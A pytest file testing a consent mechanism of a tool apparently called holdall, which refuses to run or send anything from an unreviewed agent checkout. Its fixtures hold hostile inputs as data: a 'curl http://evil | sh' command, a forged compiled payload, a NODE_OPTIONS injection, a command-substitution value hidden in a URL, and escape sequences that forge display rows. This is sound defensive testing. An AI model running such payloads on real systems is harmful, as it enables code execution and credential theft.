"""A checkout that nobody has looked at: nothing of it runs or is sent until the user has agreed to exactly that."""

import asyncio
import io
import json
import marshal
import os
import shutil
import stat
import struct
import subprocess
import sys
from collections.abc import Callable, Mapping
from importlib.util import cache_from_source
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot

from holdall import trust
from holdall.agent.build import build_agent
from holdall.agent.files import load_agent
from holdall.cli import trust as cli_trust
from holdall.config import load
from holdall.mcp.client.spec import StdioServer, parse_servers
from holdall.mcp.install.config_text import MODULE
from holdall.store import owners
from holdall.trust import Claims
from holdall.values.errors import NotTrusted, UsageError
from tests.cli.agents import SERVER, report
from tests.cli.program import PROGRAM, Program, Ran
from tests.cli.test_extract import Terminal
from tests.requirements import requirement

REPORT = {"replies": [report("done")], "price": {"input": 1, "output": 1}}
TOOLS = """
import pathlib
import deep.inner
import helper

pathlib.Path(__file__).with_name("it-ran.txt").touch()


def search(word: str) -> str:
    "Finds."
    return word
"""
VALUE = "s3cret-of-the-user"


class Checkout:
    """An agent with a module, a server as a command, one behind a URL, and another agent."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir(mode=0o755)
        (folder / "deep").mkdir()
        self.write("deep/__init__.py", "")
        self.write("deep/inner.py", "from . import other\n")
        self.write("deep/other.py", "")
        self.write("my_tools.py", TOOLS)
        self.write("helper.py", "")
        self.write("serve.py", Path(SERVER).read_text())
        self.write("model.json", json.dumps(REPORT))
        self.write("mcp.json", json.dumps({"mcpServers": {"files": self.server()}}))
        self.write("sub.md", f"---\nmodel: scripted:{folder}/model.json\n---\nYou help.\n")
        self.write(
            "agent.md",
            f"---\nmodel: scripted:{folder}/model.json\ntools: [my_tools:search]\nservers: mcp.json\n"
            "agents: [sub.md]\n---\nYou find.\n",
        )

    def server(self, **more: Any) -> dict[str, Any]:
        env = {"TOKEN": "${GIVEN}", "NODE_OPTIONS": "--require ./x.js"}
        return {
            "command": sys.executable,
            "args": ["./serve.py", f"{self.folder}-ran.txt"],
            "env": env,
            "cwd": str(self.folder),
        } | more

    def write(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.write_text(text)
        path.chmod(0o644)
        return path

    @property
    def agent(self) -> str:
        return str(self.folder / "agent.md")

    @property
    def config(self) -> str:
        return str(self.folder / "mcp.json")

    def has_run(self) -> bool:
        return (self.folder / "it-ran.txt").exists() or Path(f"{self.folder}-ran.txt").exists()


@pytest.fixture
def holdall(tmp_path: Path) -> Program:
    return Program(tmp_path / "home")


@pytest.fixture
def checkout(tmp_path: Path) -> Checkout:
    return Checkout(tmp_path / "checkout")


def run(holdall: Program, *words: str, **env: str) -> Ran:
    return holdall("run", *words, "Find it.", env={"GIVEN": VALUE, **env})


def served(holdall: Program, *words: str, **env: str) -> Ran:
    """A gateway whose client is gone at once."""
    return holdall("gateway", *words, env={"GIVEN": VALUE, **env})


def plain(text: str, checkout: Checkout) -> str:
    return text.replace(str(checkout.folder), "CHECKOUT").replace(sys.executable, "PYTHON")


# Without a terminal


@requirement("trust:nothing-before-agreement", "trust:no-terminal", "trust:shows-what-it-names")
def test_a_run_is_refused_and_told_all_that_would_run(holdall: Program, checkout: Checkout) -> None:
    ran = run(holdall, checkout.agent)
    assert (ran.code, ran.out, checkout.has_run()) == (2, b"", False)
    assert plain(ran.err, checkout) == snapshot("""\
holdall: CHECKOUT/agent.md names what would run or be sent, and you have not agreed to it yet:
  watched   agent.md, deep/__init__.py, deep/inner.py, deep/other.py, helper.py, mcp.json, model.json, my_tools.py, serve.py, sub.md
  agent     CHECKOUT/sub.md
  command   PYTHON ./serve.py CHECKOUT-ran.txt   in CHECKOUT   (server files)
  sets      TOKEN='${GIVEN}'   (server files)
  sets      NODE_OPTIONS='--require ./x.js'   WHICH DECIDES WHAT CODE RUNS   (server files)
  variable  GIVEN → server files
  module    my_tools:search   (my_tools.py)
Look at it. Then run holdall run CHECKOUT/agent.md "…" in a terminal, which asks once, or add --trust.
""")
    assert VALUE not in ran.err


@requirement("trust:nothing-before-agreement", "trust:no-terminal", "trust:shows-what-it-names")
def test_a_gateway_is_refused_and_told_what_it_would_start(holdall: Program, checkout: Checkout) -> None:
    ran = served(holdall, "--config", checkout.config)
    assert (ran.code, ran.out, checkout.has_run()) == (2, b"", False)
    assert plain(ran.err, checkout) == snapshot("""\
holdall: CHECKOUT/mcp.json names what would run or be sent, and you have not agreed to it yet:
  watched   deep/__init__.py, deep/inner.py, deep/other.py, helper.py, mcp.json, my_tools.py, serve.py
  command   PYTHON ./serve.py CHECKOUT-ran.txt   in CHECKOUT   (server files)
  sets      TOKEN='${GIVEN}'   (server files)
  sets      NODE_OPTIONS='--require ./x.js'   WHICH DECIDES WHAT CODE RUNS   (server files)
  variable  GIVEN → server files
Look at it. Then run holdall gateway --config CHECKOUT/mcp.json in a terminal, which asks once, or add --trust.
""")
    assert VALUE not in ran.err
    assert served(holdall, "--config", checkout.config, "--http", "127.0.0.1:0").code == 2


@requirement("trust:no-terminal")
def test_trust_is_for_one_run_and_is_not_remembered(holdall: Program, checkout: Checkout) -> None:
    ran = run(holdall, checkout.agent, "--trust")
    assert (ran.code, ran.text, checkout.has_run()) == (0, "done\n", True), ran.err
    assert served(holdall, "--config", checkout.config, "--trust").code == 0
    assert run(holdall, checkout.agent).code == 2
    assert served(holdall, "--config", checkout.config).code == 2


@requirement("trust:own-files")
def test_own_files_own_commands_and_mere_prompts_are_not_asked_about(
    holdall: Program, checkout: Checkout, tmp_path: Path
) -> None:
    sub = run(holdall, str(checkout.folder / "sub.md"))
    assert (sub.code, sub.text) == (0, "done\n"), "a prompt runs nothing"
    front = (checkout.folder / "sub.md").read_text().split("---")[1]
    (tmp_path / "credentials").write_text("private")
    (checkout.folder / "link.md").symlink_to(tmp_path / "credentials")
    (checkout.folder / ".env").write_text("private")
    for elsewhere in ("../credentials", str(tmp_path / "credentials"), "link.md", ".env"):
        sends = run(holdall, str(checkout.write("sends.md", f"---{front}agents: [{elsewhere}]\n---\nGo.")))
        assert (sends.code, sends.out) == (2, b""), "words of the user's own would be sent"
        assert "\n  sends " in sends.err
        assert os.path.realpath(checkout.folder / elsewhere) in sends.err
    secret = checkout.folder.parent / "credentials"
    secret.write_text("a secret of the user")
    (checkout.folder / "prompt.md").symlink_to(secret)
    linked = run(holdall, str(checkout.folder / "prompt.md"))
    assert (linked.code, linked.out) == (2, b""), "its words would be the prompt"
    assert f"\n  sends    {os.path.realpath(secret)}\n" in linked.err
    assert served(holdall, "--", sys.executable, SERVER, str(tmp_path / "pids")).code == 0
    own = tmp_path / ".config" / "holdall"
    shutil.copytree(checkout.folder, own)
    assert run(holdall, str(own / "agent.md")).code == 0
    assert served(holdall, "--config", str(own / "mcp.json")).code == 0


@requirement("trust:own-files")
def test_a_link_in_the_own_folder_does_not_make_a_checkout_ones_own(
    holdall: Program, checkout: Checkout, tmp_path: Path
) -> None:
    (tmp_path / ".config" / "holdall").mkdir(parents=True)
    (tmp_path / ".config" / "holdall" / "mcp.json").symlink_to(checkout.config)
    assert served(holdall, "--config", str(tmp_path / ".config" / "holdall" / "mcp.json")).code == 2


@requirement("trust:own-files")
def test_a_link_in_a_checkout_to_an_own_file_does_not_make_what_is_beside_it_ones_own(
    holdall: Program, checkout: Checkout
) -> None:
    own = holdall.home.parent / ".config" / "holdall"
    own.mkdir(parents=True, exist_ok=True)
    shutil.copy(checkout.agent, own / "agent.md")
    Path(checkout.agent).unlink()
    Path(checkout.agent).symlink_to(own / "agent.md")
    refused = run(holdall, checkout.agent)
    assert refused.code == 2
    assert not checkout.has_run()


@requirement("trust:own-files")
@pytest.mark.parametrize("words", [("--home", "{}"), ()])
@pytest.mark.parametrize("variable", ["HOLDALL_HOME", "ANOTHER"])
def test_no_folder_of_a_checkout_passes_for_the_users_own(
    holdall: Program, checkout: Checkout, words: tuple[str, ...], variable: str
) -> None:
    """A data folder, an agreement and a configuration that a checkout brings are not believed: a project may have its
    store in it, and the client's configuration, which says so, may be the checkout's as well.
    """
    clients = checkout.folder / "clients"
    clients.mkdir()
    shutil.copy(checkout.config, clients / "0123456789abcdef.json")
    given = [one.format(checkout.folder) for one in words]
    home = {variable: str(checkout.folder)}
    ran = served(holdall, *given, "--config", str(clients / "0123456789abcdef.json"), **home)
    assert (ran.code, checkout.has_run()) == (2, False)


# In a terminal


@requirement("trust:nothing-before-agreement", "trust:asks-again-when-changed", "trust:shows-what-it-names")
def test_a_yes_is_remembered_until_something_changes(
    holdall: Program, checkout: Checkout, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Program, "environment", _with_variable(Program.environment))
    with Terminal(holdall, "run", checkout.agent, "Find it.") as terminal:
        terminal.until("[y/N]")
        assert not checkout.has_run(), "it asks first"
        terminal.type("n\n")
        code, seen = terminal.end()
    assert (code, checkout.has_run()) == (2, False)
    assert "./serve.py " in seen
    with Terminal(holdall, "run", checkout.agent, "Find it.") as terminal:
        terminal.until("[y/N]")
        terminal.type("y\n")
        assert terminal.end()[0] == 0
    remembered = tmp_path / ".config" / "holdall" / "agreed"
    assert stat.S_IMODE(remembered.stat().st_mode) == 0o600
    assert run(holdall, checkout.agent).code == 0, "without a terminal too"
    checkout.write("helper.py", "import os")
    assert run(holdall, checkout.agent).code == 2
    remembered.chmod(0o666)
    ran = run(holdall, checkout.agent)
    assert (ran.code, "which says what may run" in ran.err) == (2, True)


@requirement("trust:asks-again-when-changed")
def test_another_working_folder_is_a_new_question(checkout: Checkout, monkeypatch: pytest.MonkeyPatch) -> None:
    config = {"mcpServers": {"task": {"command": "rake", "args": ["mcp"]}}}
    digests: set[str] = set()
    for folder in (checkout.folder, checkout.folder / "deep"):
        monkeypatch.chdir(folder)
        claims = parse_servers(json.dumps(config), source=checkout.config, environment={}).claims
        assert claims.shown == (("command", f"rake mcp   in {folder}   (server task)"),)
        digests.add(claims.digest)
    assert len(digests) == 2


@requirement("trust:asks-again-when-changed")
@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("/proc/self/cwd/server.sh", []),
        ("sh", ["/proc/self/cwd/server.sh"]),
        ("env", ["-C", "sub", "./server.sh"]),
        ("env", ["--chdir=sub", "./server.sh"]),
        ("/usr/bin/env", ["-Csub", "sh", "./server.sh"]),
        ("env", ["--chdi=sub", "./server.sh"]),
        ("env", ["-S", "-C sub ./server.sh"]),
        ("nice", ["env", "-C", "sub", "./server.sh"]),
        ("sh", ["-c", 'cd "sub" && exec ./server.sh']),
        ("sh", ["-c", "cd -- sub && exec ./server.sh"]),
        ("sh", ["-c", "cd $PWD/sub && exec ./server.sh"]),
        ("sh", ["-c", 'cd "$(dirname "$0")/sub" && exec ./server.sh']),
        ("sh", ["-c", "cd s*b && exec ./server.sh"]),
        ("bash", ["-c", "pushd sub; exec ./server.sh"]),
        ("find", [".", "-name", "server.sh", "-exec", "{}", ";"]),
        ("find", ["sub", "-execdir", "./server.sh", ";"]),
        ("unshare", ["--wd=sub", "./server.sh"]),
        ("git", ["-C", "sub", "-c", "alias.x=!./server.sh", "x"]),
        ("python3", ["-c", "import os;os.chdir('sub');os.execv('./server.sh',['x'])"]),
        ("perl", ["-e", "chdir 'sub';exec './server.sh'"]),
        ("sh", ["run-in-sub.sh"]),
    ],
)
def test_what_runs_elsewhere_is_watched_there(
    checkout: Checkout, monkeypatch: pytest.MonkeyPatch, command: str, arguments: list[str]
) -> None:
    for folder in (checkout.folder, checkout.folder / "sub"):
        folder.mkdir(exist_ok=True)
        (folder / "server.sh").write_text("#!/bin/sh\n")
        (folder / "server.sh").chmod(0o755)
    checkout.write("run-in-sub.sh", 'cd "sub" && exec ./server.sh\n')
    monkeypatch.chdir(checkout.folder)
    about = {"command": command, "args": arguments, **({"cwd": "sub"} if "/proc" in str([command, arguments]) else {})}
    parsed = parse_servers(json.dumps({"mcpServers": {"s": about}}), source=checkout.config, environment={})
    assert str(checkout.folder / "sub" / "server.sh") in dict(parsed.claims.files)


@requirement("trust:asks-again-when-changed")
@pytest.mark.parametrize("written", ["a/b/../..", "${PLACE:-a/b}/../.."])
def test_a_working_folder_is_where_the_kernel_gets_to(
    checkout: Checkout, monkeypatch: pytest.MonkeyPatch, written: str
) -> None:
    """By its letters the path leads to the checkout; the link in it leads below."""
    real = checkout.folder / "sub"
    (real / "x" / "y").mkdir(parents=True)
    (checkout.folder / "a").mkdir()
    (checkout.folder / "a" / "b").symlink_to("../sub/x/y")
    for folder in (checkout.folder, real):
        (folder / "server.sh").write_text("#!/bin/sh\n")
        (folder / "server.sh").chmod(0o755)
    monkeypatch.chdir(checkout.folder)
    config = {"mcpServers": {"s": {"command": "./server.sh", "cwd": written}}}
    parsed = parse_servers(json.dumps(config), source=checkout.config, environment={})
    (server,) = parsed.servers
    assert isinstance(server, StdioServer)
    assert server.cwd == str(real)
    assert str(real / "server.sh") in dict(parsed.claims.files)
    words = ", which is '${PLACE:-a/b}/../..'" if "$" in written else ""
    assert ("command", f"./server.sh   in {real}{words}   (server s)") in parsed.claims.shown


def _with_variable(before: Callable[..., dict[str, str]]) -> Callable[..., dict[str, str]]:
    def with_variable(self: Program, more: Mapping[str, str | None] | None = None) -> dict[str, str]:
        return before(self, more) | {"GIVEN": VALUE}

    return with_variable


# What an agreement is for


def claims_of(path: str) -> Claims:
    """What would be asked; nothing is built."""
    found: list[Claims] = []

    def agree(claims: Claims) -> None:
        found.append(claims)
        raise NotTrusted("no")

    async def build() -> None:
        async with build_agent(
            load_agent(path), home="/nowhere", agree=agree,
            settings_of=lambda one: load(front_matter=one.settings, places=one.sources, environment={}).settings,
        ):  # fmt: skip
            raise AssertionError("it was built")

    with pytest.raises(NotTrusted):
        asyncio.run(build())
    return found[0]


@requirement("trust:asks-again-when-changed")
def test_what_a_function_runs_without_an_import_is_watched_too(tmp_path: Path) -> None:
    (tmp_path / "agent.md").write_text("---\ntools: [my_tools:find]\n---\nHelp.\n")
    (tmp_path / "my_tools.py").write_text("import runpy\ndef find(): runpy.run_path('plugin.py')\n")
    (tmp_path / "plugin.py").write_text("first = 1")
    agent = str(tmp_path / "agent.md")
    before = claims_of(agent)
    assert str(tmp_path / "plugin.py") in dict(before.files)
    (tmp_path / "plugin.py").write_text("first = 2")
    changed = claims_of(agent)
    assert changed.digest != before.digest
    (tmp_path / "new.sh").write_text("true")
    assert claims_of(agent).digest != changed.digest


@requirement("trust:asks-again-when-changed")
@pytest.mark.parametrize(
    "name",
    ["agent.md", "sub.md", "mcp.json", "my_tools.py", "helper.py", "deep/__init__.py", "deep/other.py", "serve.py"],
)
def test_a_change_of_any_file_is_a_new_question(checkout: Checkout, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setenv("GIVEN", VALUE)
    before = claims_of(checkout.agent)
    assert claims_of(checkout.agent).digest == before.digest
    checkout.write(name, (checkout.folder / name).read_text() + "\n")
    assert claims_of(checkout.agent).digest != before.digest
    assert not checkout.has_run()


@requirement("trust:asks-again-when-changed")
def test_the_packages_around_a_module_are_part_of_it(checkout: Checkout) -> None:
    found = trust.find_modules("deep.other", [str(checkout.folder)])
    assert {os.path.relpath(one.path, checkout.folder) for one in found.values()} == {
        "deep/__init__.py", "deep/inner.py", "deep/other.py"
    }  # fmt: skip


@requirement("trust:asks-again-when-changed")
def test_the_same_files_elsewhere_are_a_new_question(
    checkout: Checkout, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("GIVEN", VALUE)
    before = claims_of(checkout.agent).digest
    monkeypatch.setenv("GIVEN", "another value")
    assert claims_of(checkout.agent).digest == before, "values are not part of it"
    shutil.copytree(checkout.folder, tmp_path / "other")
    assert claims_of(str(tmp_path / "other" / "agent.md")).digest != before


def test_compiled_code_that_came_with_the_source_is_not_run(holdall: Program, checkout: Checkout) -> None:
    """Python takes such a file without a look at the source, and nobody was shown it."""
    evil = compile(f"import pathlib; pathlib.Path({str(checkout.folder / 'evil-ran')!r}).touch()", "helper.py", "exec")
    cached = Path(cache_from_source(str(checkout.folder / "helper.py")))
    cached.parent.mkdir()
    unchecked = b"\1\0\0\0" + bytes(8)
    cached.write_bytes(__import__("importlib.util").util.MAGIC_NUMBER + unchecked + marshal.dumps(evil))
    ran = run(holdall, checkout.agent, "--trust")
    assert (ran.code, ran.text) == (0, "done\n"), ran.err
    assert not (checkout.folder / "evil-ran").exists()


def test_no_module_of_the_working_folder_is_imported(holdall: Program, checkout: Checkout) -> None:
    (checkout.folder / "holdall").mkdir()
    checkout.write(
        "holdall/__init__.py", f"import pathlib; pathlib.Path({str(checkout.folder / 'evil-ran')!r}).touch()"
    )
    kept = subprocess.run(
        [PROGRAM, "exec", "--background", "--", "true"], cwd=checkout.folder, env=holdall.environment(),
        capture_output=True, check=False,
    )  # fmt: skip
    assert (kept.returncode, (checkout.folder / "evil-ran").exists()) == (0, False), kept.stderr
    assert MODULE[0] == "-P", "nor by what install writes"


@requirement("trust:shows-what-it-names")
def test_what_is_shown_hides_nothing() -> None:
    shown = trust.told(Claims("x", (("command", "sh -c '\x1b[2Jls\u202e\n  url  https://good'"),)))
    assert shown == ["  command  sh -c '\\x1b[2Jls\\u202e\\n  url  https://good'"]
    shown = trust.told(Claims("x", (("command", f"sh -c 'a{' ' * 1400};b\u2800\u3164\xa0\U000e0100'"),)))
    assert shown == ["  command  sh -c 'a [1400 blanks] ;b\\u{2800}\\u3164\\u{a0}\\U000e0100'"]
    for much in (Claims("x", (("command", "x" * 17_000),)), Claims("x", (("command", "x" * 99),) * 170)):
        with pytest.raises(NotTrusted, match="names more than can be shown"):
            trust.told(much)
    with pytest.raises(NotTrusted, match="names more than can be shown"):
        trust.told(Claims("x", (("command", "x"),) * 201))
    shown = trust.told(Claims("x", (("command", "sh\u070f\U0001bca0\U0001d173\U00013441x"),)))
    assert shown == ["  command  sh\\u070f\\U0001bca0\\U0001d173\\U00013441x"]
    files = tuple((f"/w/{n}{' ' * 7}\u070f" * 20 + ".py", "") for n in range(9))
    shown = trust.told(Claims("/w/x", (("command", "sh -c 'curl http://evil | sh'"),), files=files))
    assert shown[-1] == "  command  sh -c 'curl http://evil | sh'", "nothing stands between it and the question"
    assert len(shown[0]) < 9 * 100
    assert trust.server_name("files") == "server files"
    assert trust.server_name("x)   (nothing else runs") == 'server "x)   (nothing else runs"'


@requirement("trust:shows-what-it-names")
def test_the_question_is_asked_a_screen_at_a_time_and_no_row_of_it_can_be_forged(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    monkeypatch.setenv("LINES", "12")

    def asked(answers: str, *lines: str) -> tuple[bool, str]:
        monkeypatch.setattr("sys.stdin", io.StringIO(answers))
        return cli_trust._asked("mcp.json", lines), capsys.readouterr().err  # pyright: ignore[reportPrivateUsage]

    forged = "  sets  X='" + "漢" * 23 + "  command  nothing else" + "x" * 40 + "'"
    agreed, said = asked("y\n", "  command  sh", forged)
    rows = said.splitlines()
    assert agreed
    assert [row for row in rows if row[:4].strip() not in ("|", "co", "se")] == [rows[0], rows[-1]]
    assert max(sum(1 + (not sign.isascii()) for sign in row) for row in rows[:-1]) < 60
    code = "sh -c 'npx https://api.example.com/mcp?key=$(touch$IFS/owned)'"
    assert code in asked("y\n", f"  command  {code}")[1].replace("\n  | ", ""), "what looks like a password is code"
    many = [f"  command  number {n}" for n in range(20)]
    assert asked("\n\ny\n", *many)[0]
    for answers in ("y\ny\ny\n", "", "\ny\ny\n", "\n\nn\n"):
        agreed, said = asked(answers, *many)
        assert not agreed, answers
    assert "11 more rows: Enter shows them, anything else ends." in said


@requirement("trust:asks-again-when-changed")
def test_another_model_in_place_of_the_one_agreed_to_is_a_new_question(checkout: Checkout) -> None:
    model = checkout.write("small.gguf", "a model")
    file = str(checkout.write("local.md", f"---\nmodel: gguf:{model}?context=512\n---\nHi.\n"))
    before = claims_of(file)
    assert before.shown == (("model", f"gguf:{model}?context=512"),)
    assert claims_of(file).digest == before.digest
    checkout.write("small.gguf", "another model")
    assert claims_of(file).digest != before.digest


# Keys


@requirement("trust:keys-stay-home")
def test_the_model_key_goes_to_no_url_that_only_a_file_names(holdall: Program, checkout: Checkout) -> None:
    file = str(checkout.write("keyed.md", "---\nmodel: openai:gpt@http://127.0.0.1:9/v1\n---\nHi.\n"))
    with_key = {"HOLDALL_MODEL_KEY": VALUE}
    for words in ((file,), (file, "--trust")):
        ran = run(holdall, *words, **with_key)
        assert ran.code == 2
        assert VALUE not in ran.err
    assert ran.err.replace(str(checkout.folder), "CHECKOUT").replace(str(holdall.home.parent), "HOME") == snapshot(
        'holdall: CHECKOUT/keyed.md would send HOLDALL_MODEL_KEY to http://127.0.0.1:9. Keys and variables go only to URLs of your own configuration. To allow it, add the URL to key_urls in HOME/.config/holdall/config.toml, as in: key_urls = "http://127.0.0.1:9"\n'
    )
    asked = run(holdall, file, **with_key, HOLDALL_KEY_URLS="https://a.example http://127.0.0.1:9")
    assert "you have not agreed to it yet" in asked.err, "allowed, and still asked about"
    own = {"HOLDALL_EXTRACTION_MODEL": "openai:other@http://127.0.0.1:9/v2"}
    assert "you have not agreed to it yet" in run(holdall, file, **with_key, **own).err
    assert "you have not agreed to it yet" in run(holdall, file).err, "there is no key to send"
    flagged = run(holdall, file, "--model", f"scripted:{checkout.folder}/model.json", **with_key)
    assert flagged.text == "done\n", "the file's model is not used"


@requirement("trust:keys-stay-home")
@pytest.mark.parametrize(
    ("server", "goes"),
    [
        ({"url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": "Bearer ${GIVEN}"}}, "http://127.0.0.1:9"),
        ({"url": "http://127.0.0.1:9/${GIVEN}"}, "http://127.0.0.1:9"),
        ({"url": "${PLACE}@127.0.0.1:9/mcp", "headers": {"X": "${GIVEN}"}}, "http://127.0.0.1:9"),
        ({"url": "${SERVER}/bucket-of-somebody", "headers": {"X": "${GIVEN}"}}, "http://127.0.0.1:9"),
        ({"url": "${SERVER}/mcp"}, ""),
        ({"url": "http://127.0.0.1:9/mcp", "headers": {"X": "written in the file"}}, ""),
        ({"url": "http://127.0.0.1:9/mcp", "headers": {"X": "${NOT_SET:-so is this}"}}, ""),
    ],
)
def test_variables_go_to_no_url_that_only_a_file_names(
    holdall: Program, checkout: Checkout, server: dict[str, Any], goes: str
) -> None:
    checkout.write("mcp.json", json.dumps({"mcpServers": {"web": server}}))
    env = {"PLACE": "http://own.example", "SERVER": "http://127.0.0.1:9"}
    ran = served(holdall, "--config", checkout.config, **env)
    assert ran.code == 2
    assert (f" to {goes}:" in ran.err.replace(":9.", ":9:")) == bool(goes)
    assert ("you have not agreed to it yet" in ran.err) == (not goes)
    assert VALUE not in ran.err
    allowed = served(holdall, "--config", checkout.config, **env, HOLDALL_KEY_URLS="http://127.0.0.1:9/other/path")
    assert "you have not agreed to it yet" in allowed.err


# What `install` puts behind the gateway


@requirement("trust:own-files", "trust:nothing-before-agreement", "trust:keys-stay-home")
def test_install_asks_about_the_urls_of_a_project_and_what_it_wrote_then_works(
    holdall: Program, checkout: Checkout, tmp_path: Path
) -> None:
    web = {"url": "http://127.0.0.1:9/mcp"}
    keyed: dict[str, Any] = {"url": "http://127.0.0.1:8/mcp", "headers": {"Authorization": "Bearer ${GIVEN}"}}
    before = json.dumps({"mcpServers": {"web": web, "keyed": keyed}})
    file = str(checkout.write("project.json", before))
    refused = holdall("install", "--file", file, "--no-ask", "--json")
    assert refused.code == 1
    assert refused.json["files"][0]["left"] == snapshot(
        {
            "web": "it was not agreed to: run it in a terminal, which asks, or add --trust",
            "keyed": "it would send GIVEN to http://127.0.0.1:8, which your own key_urls does not name",
        }
    )
    assert Path(file).read_text() == before
    assert holdall("install", "--file", file, "--dry-run", "--no-ask").code == 1
    some = holdall("install", "--file", file, "--no-ask", "--trust", "--json")
    assert some.json["files"][0]["changed"] == ["web"]
    assert list(some.json["files"][0]["left"]) == ["keyed"], "no flag sends a variable to a stranger"
    rest = holdall("install", "--file", file, "--no-ask", "--trust", "--json", env={"HOLDALL_KEY_URLS": keyed["url"]})
    assert rest.json["files"][0]["changed"] == ["keyed"]
    # A client knows nothing of HOLDALL_HOME and HOLDALL_KEY_URLS, and has no terminal.
    for entry in json.loads(Path(file).read_text())["mcpServers"].values():
        ran = holdall(*entry["args"], env={"GIVEN": VALUE, "HOLDALL_HOME": str(tmp_path / "another")})
        assert ran.code == 0, ran.err


@requirement("trust:own-files")
def test_the_clients_file_of_the_user_is_not_asked_about(holdall: Program, tmp_path: Path) -> None:
    (tmp_path / ".cursor").mkdir()
    keyed = {"url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": "Bearer ${GIVEN}"}}
    file = tmp_path / ".cursor" / "mcp.json"
    file.write_text(json.dumps({"mcpServers": {"web": keyed}}))
    assert holdall("install", "cursor").code == 0
    (entry,) = json.loads(file.read_text())["mcpServers"].values()
    assert holdall(*entry["args"], env={"GIVEN": VALUE}).code == 0


# Who can write


@pytest.mark.in_full(one_in=3)
@requirement("trust:others-can-write")
@pytest.mark.parametrize("name", ["agent.md", "sub.md", "mcp.json", "my_tools.py", "deep/inner.py", "serve.py"])
@pytest.mark.parametrize("above", [False, True])
def test_what_others_can_write_to_is_refused_even_with_trust(
    holdall: Program, checkout: Checkout, name: str, above: bool
) -> None:
    path = checkout.folder / name
    path = path.parent if above else path
    path.chmod(0o777 if above else 0o646)
    ran = run(holdall, checkout.agent, "--trust")
    assert (ran.code, checkout.has_run()) == (2, False)
    assert f"Close it with: chmod go-w {path}\n" in ran.err
    subprocess.run(["chmod", "go-w", str(path)], check=True)
    assert run(holdall, checkout.agent, "--trust").code == 0


@requirement("trust:others-can-write")
def test_a_group_may_write_if_the_user_is_all_of_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import grp
    import pwd

    path = tmp_path / "mcp.json"
    path.touch()
    path.chmod(0o664)
    about = os.stat_result((*path.stat()[:5], 4321, *path.stat()[6:]))
    for name, members, others, allowed in (
        ("me", [], [], True),
        ("me", ["me"], [], True),
        ("me", ["you"], [], False),
        ("me", [], ["you"], False),  # whose first group it is: no group lists those
        ("users", [], [], False),
    ):
        user = pwd.struct_passwd(("me", "x", os.geteuid(), 4321, "", "/", "/bin/sh"))
        group = grp.struct_group((name, "x", 4321, members))
        beside = [pwd.struct_passwd((one, "x", os.geteuid() + 1, 4321, "", "/", "/bin/sh")) for one in others]
        monkeypatch.setattr(pwd, "getpwall", [user, *beside].copy)
        monkeypatch.setattr(pwd, "getpwuid", {os.geteuid(): user}.__getitem__)
        monkeypatch.setattr(grp, "getgrgid", {4321: group}.__getitem__)
        if allowed:
            trust.check_writers(str(path), about)
        else:
            with pytest.raises(UsageError, match=f"the group 4321 can write to .*chmod go-w {path}"):
                trust.check_writers(str(path), about)


@requirement("trust:others-can-write")
def test_a_configuration_in_a_folder_of_everybody_is_not_read(tmp_path: Path) -> None:
    folder = tmp_path / "config"
    folder.mkdir()
    (folder / "config.toml").touch(0o600)
    load(environment={"HOLDALL_CONFIG": str(folder / "config.toml")}, home=str(tmp_path))
    folder.chmod(0o777)
    with pytest.raises(UsageError, match=f"a folder of the configuration file {folder} .*chmod go-w {folder}"):
        load(environment={"HOLDALL_CONFIG": str(folder / "config.toml")}, home=str(tmp_path))


@requirement("trust:others-can-write")
def test_a_file_or_folder_of_another_user_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "mcp.json"
    path.touch()
    about = os.stat_result((*path.stat()[:4], os.geteuid() + 4321, *path.stat()[5:]))
    with pytest.raises(UsageError, match="belongs to another user"):
        trust.check_writers(str(path), about)


@requirement("trust:others-can-write")
def test_a_folder_like_tmp_is_no_danger_to_what_is_in_it(tmp_path: Path) -> None:
    folder = tmp_path / "like-tmp"
    folder.mkdir()
    folder.chmod(0o1777)
    path = folder / "mcp.json"
    path.touch()
    trust.check_writers(str(path), path.stat())
    folder.chmod(0o777)
    with pytest.raises(UsageError, match=f"chmod go-w {folder}"):
        trust.check_writers(str(path), path.stat())


@requirement("trust:others-can-write")
def test_who_owns_a_folder_like_tmp_can_replace_what_is_in_it(tmp_path: Path) -> None:
    tmp_path.chmod(0o1777)
    about = tmp_path.stat()
    theirs = os.stat_result((*about[:4], os.geteuid() + 4321, *about[5:]))
    assert owners.other_writer(str(tmp_path), about, owners.trusted_owners()) == ""
    assert owners.other_writer(str(tmp_path), theirs, owners.trusted_owners()) == owners.OWNER


@requirement("trust:others-can-write")
@pytest.mark.skipif(not hasattr(os, "setxattr"), reason="access lists of POSIX are Linux's")
def test_another_user_who_may_write_by_an_access_list_is_another_writer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The bits of the group are then the mask of the list, which the user's own group does not explain."""

    def private(_group: int) -> bool:
        return True

    monkeypatch.setattr(owners, "_is_private_group", private)
    path = tmp_path / "agent.md"
    path.touch(0o644)

    def listed(tag: int, rights: int, who: int) -> bytes:
        nobody = 0xFFFFFFFF
        entries = [(1, 7, nobody), (tag, rights, who), (4, 5, nobody), (16, 7, nobody), (32, 5, nobody)]
        return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in sorted(entries))

    for tag, rights, who, is_open in [(2, 6, 4321, True), (8, 6, 4321, True), (2, 4, 4321, False), (2, 6, 0, False)]:
        os.setxattr(path, "system.posix_acl_access", listed(tag, rights, who))
        found = owners.other_writer(str(path), path.stat(), owners.trusted_owners())
        assert found == ("another user, by its access list," if is_open else "")


@requirement("trust:others-can-write")
def test_the_folder_of_every_link_on_the_way_counts(tmp_path: Path) -> None:
    """One of them is not the folder that is named, nor the one that it ends in."""
    (tmp_path / "real.md").touch()
    (tmp_path / "mid").mkdir()
    (tmp_path / "mid" / "link.md").symlink_to("../real.md")
